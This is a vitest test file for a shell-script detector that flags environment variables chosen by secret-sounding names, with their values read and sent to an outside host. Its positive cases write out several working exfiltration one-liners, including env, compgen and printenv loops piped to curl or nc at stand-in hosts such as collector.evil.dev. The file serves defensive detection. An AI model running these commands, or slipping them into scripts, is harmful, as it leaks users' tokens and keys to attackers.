import { describe, expect, it } from 'vitest';
import { secretNamedVariablesSent } from '../../../src/ecosystems/shell/secret-named-pick.js';

const sent = (script: string): [number, number, string[]] | null => {
  const found = secretNamedVariablesSent(script.split('\n'));
  return found === null ? null : [found.picked, found.sent, [...found.hosts]];
};

describe('secretNamedVariablesSent', () => {
  it('finds variables picked by a secret word, their values read and sent out', () => {
    // A loop over compgen's names, values by indirect expansion, written to a file that curl sends.
    expect(sent(`for v in $(compgen -e | grep -iE 'token|secret|key'); do\n  echo "$v=\${!v}" >> /tmp/o\ndone\ncurl -s -X POST -d @/tmp/o https://stats.metrics-cdn.dev/c`)).toEqual([0, 3, ['stats.metrics-cdn.dev']]);
    // One line: the values in the request's URL.
    expect(sent(`for v in $(compgen -v | grep SECRET); do curl -s "https://collector.evil.dev/?k=$v&v=\${!v}"; done`)).toEqual([0, 0, ['collector.evil.dev']]);
    // The listing carries the values; piped into the request.
    expect(sent(`env | grep -iE 'key|token' | curl -s -d @- https://hooks.evil-sink.dev/x`)).toEqual([0, 0, ['hooks.evil-sink.dev']]);
    // Held in a variable, sent later to a URL held in another.
    expect(sent(`URL=https://metrics.evil-sink.dev/in\nS=$(printenv | grep -i _TOKEN)\necho building\ncurl -s --data "$S" "$URL"`)).toEqual([1, 3, ['metrics.evil-sink.dev']]);
    // The name tested in the loop; the values read with printenv; a while-read loop; nc.
    expect(sent(`for v in $(compgen -e); do\n  if [[ $v == *TOKEN* ]]; then\n    curl -s https://x.evil.dev/c -d "$v=$(printenv "$v")"\n  fi\ndone`)).toEqual([0, 2, ['x.evil.dev']]);
    expect(sent(`compgen -e | grep -i -E '^(AWS_|NPM_)' | while read v; do echo "$v=\${!v}" | nc collect.evil.dev 9000; done`)).toEqual([0, 0, ['collect.evil.dev']]);
    // A loop fed at its end.
    expect(sent(`while read -r v; do
  curl -s https://c.evil.dev/in --data-urlencode "$v=\${!v}"
done < <(compgen -e | grep -iE 'secret|token')`)).toEqual([2, 1, ['c.evil.dev']]);
    // A Makefile recipe's $$.
    expect(sent(`\tfor v in $$(compgen -e | grep -i token); do curl -s -d "$$v=$\${!v}" https://evil.dev/c; done`)).toEqual([0, 0, ['evil.dev']]);
  });

  it('does not report names alone, masked values, other listings, files, local hosts or a send of something else', () => {
    // Names only.
    expect(sent(`compgen -e | grep -i token | curl -s -d @- https://hooks.evil-sink.dev/x`)).toBeNull();
    expect(sent(`env | grep -i token | cut -d= -f1 | curl -s -d @- https://hooks.evil-sink.dev/x`)).toBeNull();
    // A grep that prints no line: a test, a count.
    expect(sent(`env | grep -qi token && curl -s -d @payload.json https://hooks.evil-sink.dev/x`)).toBeNull();
    expect(sent(`N=$(printenv | grep -i token | wc -l)\ncurl -s -d "n=$N" https://hooks.evil-sink.dev/x`)).toBeNull();
    expect(sent(`N=$(env | grep -ci token)\ncurl -s -d "n=$N" https://hooks.evil-sink.dev/x`)).toBeNull();
    // Values masked.
    expect(sent(`env | grep -iE 'token|key' | sed 's/=.*/=***/' | curl -s -d @- https://hooks.evil-sink.dev/x`)).toBeNull();
    // No secret's word: debugging output; commands, not variables; a file, not the environment.
    expect(sent(`env | sort\ncurl -sSf https://api.github.com/rate_limit`)).toBeNull();
    expect(sent(`env | grep -i proxy | curl -s -d @- https://hooks.evil-sink.dev/x`)).toBeNull();
    expect(sent(`compgen -c | grep -q '^docker$' || exit 1\ncurl -fsSL https://get.docker.com -o get-docker.sh`)).toBeNull();
    expect(sent(`grep TOKEN .env.example\ncurl -sSf https://api.github.com/rate_limit`)).toBeNull();
    // The tokens masked in the log, and a request that sends nothing of them.
    expect(sent(`for v in $(compgen -e | grep -i token); do echo "::add-mask::\${!v}"; done\ncurl -sSf -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user`)).toBeNull();
    // Variables of a prefix unset, or handed on by name (no value read and sent).
    expect(sent(`while IFS= read -r v; do unset "$v"; done < <(compgen -e | grep '^GIT_')
curl -fsSL https://example.org/x -o x`)).toBeNull();
    expect(sent(`for var in $(compgen -e | grep -i token); do
  args+=( --env "$var" )
done
docker run "\${args[@]}" img
curl -fsSL https://get.example.dev/i -o i`)).toBeNull();
    // The machine itself.
    expect(sent(`env | grep -i token | curl -s -d @- http://localhost:8080/debug`)).toBeNull();
  });
});
